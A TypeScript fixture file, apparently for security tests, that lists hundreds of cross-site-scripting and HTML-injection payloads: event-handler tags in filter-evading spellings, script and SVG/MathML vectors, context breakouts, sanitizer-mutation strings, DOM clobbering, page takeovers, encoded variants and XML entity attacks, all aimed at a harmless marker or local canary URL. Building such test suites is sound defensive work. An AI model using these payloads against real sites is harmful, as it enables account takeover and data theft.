/** Markup that would run a script, load something or take the page over, if a text were ever read as markup. */

/** What a script would do. Without quotes, so that it stands in any attribute. */
export const deed = 'window.__kringPwned=1';
/** What would be fetched without any script. */
export const canary = '/kring-canary';
/** The same somewhere else. `.invalid` exists nowhere. */
export const elsewhere = '//kring-canary.invalid/x';

/** An element that acts by itself, as far as its handler: name, what it needs, its event. */
const acting: readonly (readonly [element: string, needs: string, event: string])[] = [
  ['img', 'src=x', 'onerror'],
  ['image', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['iframe', 'src=about:blank', 'onload'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onload'],
  ['video', 'src=x', 'onerror'],
  ['video', 'autoplay', 'onloadstart'],
  ['audio', 'src=x', 'onerror'],
  ['source', 'src=x', 'onerror'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['style', '', 'onload'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['p', 'tabindex=1 autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['dialog', 'open', 'oncancel'],
  ['marquee', '', 'onstart'],
  ['a', 'href=#', 'onmouseover'],
  ['div', 'style=animation-name:settle;animation-duration:1s', 'onanimationstart'],
  ['div', 'contenteditable autofocus', 'onfocus'],
  ['div', 'style=position:fixed;inset:0', 'onpointerenter'],
  ['x-own', 'tabindex=1 autofocus', 'onfocusin'],
];

/** The same tag as people write it to slip past a filter. */
const handwriting: readonly ((element: string, needs: string, event: string) => string)[] = [
  (element, needs, event) => `<${element} ${needs} ${event}=${deed}>`,
  (element, needs, event) =>
    `<${element.toUpperCase()} ${needs} ${event.toUpperCase()}='${deed}'></${element}>`,
  (element, needs, event) => `<${element}/${needs.replaceAll(' ', '/')}/${event}=${deed}//`,
  (element, needs, event) => `<${element}\n${needs}\n${event}\n=\n"${deed}"\n>`,
  (element, needs, event) => `<<${element} ${needs} ${event}="&#119;indow.__kringPwned&equals;1" x=`,
];

const handlers = acting.flatMap((one) => handwriting.map((write) => write(...one)));

const scripts = [
  `<script>${deed}</script>`,
  `<SCRIPT>${deed}</SCRIPT>`,
  `<script >${deed}</script >`,
  `<script/x>${deed}</script/x>`,
  `<script type="module">${deed}</script>`,
  `<script type="text/javascript">${deed}//</script>`,
  `<script src="${canary}"></script>`,
  `<script src="${elsewhere}"></script>`,
  `<script src="data:text/javascript,${deed}"></script>`,
  `<scr<script>ipt>${deed}</scr</script>ipt>`,
  `<script>${deed}`,
  `<script>fetch('${canary}')</script>`,
  `<script>new Image().src='${canary}'</script>`,
  `<script>document.title='KRING'</script>`,
  `<script>alert(1)</script>`,
  `<script>eval(atob('d2luZG93Ll9fa3JpbmdQd25lZD0x'))</script>`,
  `<script>import('data:text/javascript,${deed}')</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  `＜script＞${deed}＜/script＞`,
  `‹script›${deed}‹/script›`,
];

/** What might stand around a text where it is written into a page. */
const around = [
  ...['">', "'>", '`>', '>', '" ', "' ", '"/>', '\\">', '\\"'],
  ...[
    '</p>',
    '</span>',
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '</noscript>',
    '</option></select>',
  ],
  ...[
    '</iframe>',
    '</svg>',
    '</math>',
    '</template>',
    '</xmp>',
    '</td></tr></table>',
    '-->',
    ']]>',
    '*/',
    '?>',
    '%>',
    '}}',
  ],
];
const inside = [`<img src=x onerror=${deed}>`, `<script>${deed}</script>`, `autofocus onfocus=${deed} x="`];
const breakouts = around.flatMap((before) => inside.map((after) => before + after));

/** What people would fall for, or what would take the place of the page. */
const takeovers = [
  `<meta http-equiv="refresh" content="0;url=${canary}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${deed}">`,
  `<base href="${elsewhere}">`,
  `<base target="_top">`,
  `<form action="${canary}"><button autofocus>Stem hier</button></form>`,
  `<form id="app"><input name="innerHTML"><input name="attributes"></form>`,
  `<img name="getElementById"><img id="__sveltekit">`,
  `<a id="__kringPwned"></a><a id="__kringPwned" name="x"></a>`,
  `<iframe srcdoc="<script>parent.__kringPwned=1</script>"></iframe>`,
  `<iframe src="${canary}" style="position:fixed;inset:0;width:100vw;height:100vh"></iframe>`,
  `<frameset><frame src="${canary}"></frameset>`,
  `<portal src="${canary}">`,
  `<object data="${canary}" type="text/html"></object>`,
  `<embed src="${canary}" type="image/svg+xml">`,
  `<applet code="${canary}">`,
  `<link rel="stylesheet" href="${canary}">`,
  `<link rel="prefetch" href="${elsewhere}">`,
  `<link rel="preload" as="image" href="${canary}">`,
  `<img src="${canary}">`,
  `<img srcset="${canary} 2x">`,
  `<picture><source srcset="${elsewhere}"><img></picture>`,
  `<video poster="${canary}"></video>`,
  `<audio src="${canary}" autoplay></audio>`,
  `<input type="image" src="${canary}">`,
  `<body background="${canary}">`,
  `<table background="${canary}"><td background="${elsewhere}">`,
  `<dialog open style="position:fixed;inset:0">De stemming is afgelast</dialog>`,
  `<div popover="manual" id="x"></div>`,
  `<plaintext>`,
  `<xmp>`,
  `<marquee behavior="alternate" scrollamount="99">!!!</marquee>`,
  `<h1 style="font-size:9999px">GROOT</h1>`,
  `<svg><foreignObject width="9999" height="9999"><body onload=${deed}></body></foreignObject></svg>`,
  `<template shadowrootmode="open"><script>${deed}</script></template>`,
  `<slot name="x">`,
];

const drawings = [
  `<svg><script>${deed}</script></svg>`,
  `<svg><script href="data:text/javascript,${deed}" /></svg>`,
  `<svg><script xlink:href="${canary}"></script></svg>`,
  `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  `<svg><set onbegin=${deed} attributeName=x>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${deed} /><a id=x><text x=20 y=20>klik</text></a>`,
  `<svg><a href="javascript:${deed}"><rect width="9999" height="9999"/></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${deed}'/></svg>#x" /></svg>`,
  `<svg><image href="${canary}" /></svg>`,
  `<svg><feImage href="${elsewhere}" /></svg>`,
  `<svg><style>@import '${canary}';</style></svg>`,
  `<svg><style>*{fill:url(${canary}#x)}</style></svg>`,
  `<svg><desc><![CDATA[</desc><script>${deed}</script>]]></desc></svg>`,
  `<svg onload="${deed}" xmlns="http://www.w3.org/2000/svg"/>`,
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${deed}"/>`,
  `<?xml-stylesheet href="${canary}"?>`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "${canary}">]><svg>&x;</svg>`,
  `<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><p>&b;</p>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${deed}">klik</maction></math>`,
  `<math href="javascript:${deed}">klik</math>`,
  `<math><mi xlink:href="javascript:${deed}">klik</mi></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${deed}></annotation-xml></math>`,
];

/** Harmless as written, and not so after it was read and written once more: the trouble with cleaning markup. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${deed}>"></p>`,
  `<svg></p><style><a id="</style><img src=x onerror=${deed}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${deed}&gt;">`,
  `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=${deed}">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${deed}>`,
  `<svg><desc><table><thead><s></table></s></desc><style><a title="</style><img src onerror=${deed}>"></style></svg>`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${deed}>">`,
  `<math><annotation-xml encoding="text/html"><style><!--</style><img src=x onerror=${deed}>--></style>`,
  `<table><td><svg><style><!--</style></svg><img src=x onerror=${deed}>-->`,
  `<listing>&lt;img src=x onerror=${deed}&gt;</listing>`,
  `<xmp><img alt="</xmp><img src=x onerror=${deed}>">`,
  `<textarea><img alt="</textarea><img src=x onerror=${deed}>"></textarea>`,
  `<title><img alt="</title><img src=x onerror=${deed}>"></title>`,
  `<iframe><img alt="</iframe><img src=x onerror=${deed}>"></iframe>`,
  `<noembed><img alt="</noembed><img src=x onerror=${deed}>"></noembed>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${deed}>">`,
  `<p id=\`\`onmouseover=${deed} \`\`>`,
  `<img alt="\`\`onerror=${deed} src=x" src=x>`,
  `<!--[if gte IE 4]><script>${deed}</script><![endif]-->`,
  `<a href="&#x6A;avascript&colon;${deed}" &#13;>klik</a>`,
];

const comments = [
  `<!-- --><img src=x onerror=${deed}>-->`,
  `<!--><img src=x onerror=${deed}>`,
  `<!---><script>${deed}</script>-->`,
  `<!-- --!><img src=x onerror=${deed}>`,
  `<! foo="><script>${deed}</script>">`,
  `</ foo="><script>${deed}</script>">`,
  `<? foo="><script>${deed}</script>">`,
  `<![CDATA[<script>${deed}</script>]]>`,
  `<!--`,
  `<![CDATA[`,
  `&lt;script&gt;${deed}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${deed}&amp;lt;/script&amp;gt;`,
  `&#60;img src=x onerror=${deed}&#62;`,
  `&#x3c;img src=x onerror=${deed}&#x3e;`,
  `&#0000060img src=x onerror=${deed}&#0000062`,
  `&LT;img src=x onerror=${deed}&GT;`,
  `%3Cimg%20src%3Dx%20onerror%3D${encodeURIComponent(deed)}%3E`,
  `%253Cscript%253E${deed}%253C%252Fscript%253E`,
  `\\u003cimg src=x onerror=${deed}\\u003e`,
  `\\x3cscript\\x3e${deed}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${deed}+ADw-/script+AD4-`,
  `&nbsp;&copy;&notit;&ampquot;&#0;&#xD800;&#x110000;&`,
];

export const markup: Readonly<Record<string, readonly string[]>> = {
  handlers,
  scripts,
  breakouts,
  takeovers,
  drawings,
  mutations,
  comments,
};
